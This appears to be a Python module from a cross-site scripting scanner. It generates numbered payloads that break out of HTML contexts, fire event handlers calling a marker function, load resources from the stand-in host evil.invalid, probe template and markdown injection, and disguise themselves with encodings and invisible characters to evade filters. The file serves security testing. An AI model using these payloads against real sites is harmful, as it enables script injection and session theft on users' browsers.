"""Text that tries to be more: ways out of where it stands, times what would run, times disguises.

What runs calls `hit`, which the crawl listens to; what loads asks a machine that does not exist.
"""

from collections.abc import Iterable, Iterator

ELSEWHERE = "evil.invalid"
NUMBER = "7777"  # stands for the number of the text that it is in
# Out of text, of an attribute in either quotes or none, of an element that holds only text.
WAYS_OUT = ("", '">', "'>", " x>", "</textarea>", "</title>", "</option></select>", "</script>",
            "</style>", "-->", "]]>", "</svg></math>")  # fmt: skip
RUNNING = (
    "<script>hit(7777)</script>",
    "<script src=//evil.invalid/7777></script>",
    "<img src=x onerror=hit(7777)>",
    "<svg onload=hit(7777)>",
    "<body onpageshow=hit(7777)>",
    "<details open ontoggle=hit(7777)>",
    "<input autofocus onfocus=hit(7777)>",
    "<video><source onerror=hit(7777)>",
    "<iframe srcdoc='<script>top.hit(7777)</script>'>",
    "<iframe src=javascript:top.hit(7777)>",
    "<object data=javascript:hit(7777)>",
    "<embed src=//evil.invalid/7777>",
    "<a href=javascript:hit(7777)>go</a>",
    "<math><mi xlink:href=javascript:hit(7777)>",
    "<svg><use href=data:image/svg+xml,7777#x>",
    "<link rel=stylesheet href=//evil.invalid/7777>",
    "<style>@import'//evil.invalid/7777'</style>",
    "<p style=background:url(//evil.invalid/7777)>",
    "<img src=//evil.invalid/7777>",
    "<base href=//evil.invalid/7777>",
    "<meta http-equiv=refresh content='0;//evil.invalid'>",
    "<form action=//evil.invalid/7777><button>",
    "<p hx-get=//evil.invalid/7777 hx-trigger=load>",
    "<template><img src=x onerror=hit(7777)></template>",
)
# What needs no element of its own, where it lands in an attribute or in a program's text.
WITHIN = (
    '" autofocus onfocus=hit(7777) x="',
    "' onmouseover=hit(7777) x='",
    "x onclick=hit(7777) ",
    '";hit(7777);//',
    "';hit(7777);//",
    "`${hit(7777)}`",
    "{{hit(7777)}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "javascript:hit(7777)//",
    "[go](javascript:hit(7777))",
    "![pic](//evil.invalid/7777)",
    "<javascript:hit(7777)>",
    '[x](https://a.example/"onclick=hit(7777)//)',
    "&lt;img src=x onerror=hit(7777)&gt;",
)
TURNED = ("\u202e", "\u2066", "\u2028")  # only where programs may send anything


def disguised(text: str) -> Iterator[str]:
    """The same as some step in between might read it."""
    yield text.swapcase().replace("HIT(", "hit(")
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield text.replace("<", "&#x3c;").replace('"', "&#34;")
    yield text.replace("<", "%3C").replace(">", "%3E")
    yield text.replace("<", "\\u003c").replace(">", "\\u003e")
    yield text.replace("<", "＜").replace(">", "＞")
    yield text.replace("<s", "<s\u200b").replace("<i", "<i\u00ad").replace("on", "o\ufeffn")
    yield text.replace("<", "<\u200b").replace("=", "\u2060=")
    yield text.replace(" ", "/", 1)


def payloads() -> list[str]:
    """Each with a number of its own, and none longer than the shortest name may be."""
    shapes = [f"{out}{what}" for what in RUNNING for out in WAYS_OUT[:: 1 + len(what) // 36]]
    shapes += WITHIN
    shapes += [one for what in RUNNING[::2] for one in disguised(what)]
    numbered = (shape.replace(NUMBER, str(n)) for n, shape in enumerate(dict.fromkeys(shapes)))
    return [f"{n}:{text}" for n, text in enumerate(numbered)]


def packed(texts: Iterable[str], most: int, between: str = " ") -> list[str]:
    """As few texts of at most that length as hold all of them."""
    found: list[str] = []
    for text in texts:
        together = f"{found[-1]}{between}{text}" if found else text
        if found and len(together) <= most:
            found[-1] = together
        else:
            found.append(text)
    return [one for one in found if len(one) <= most]
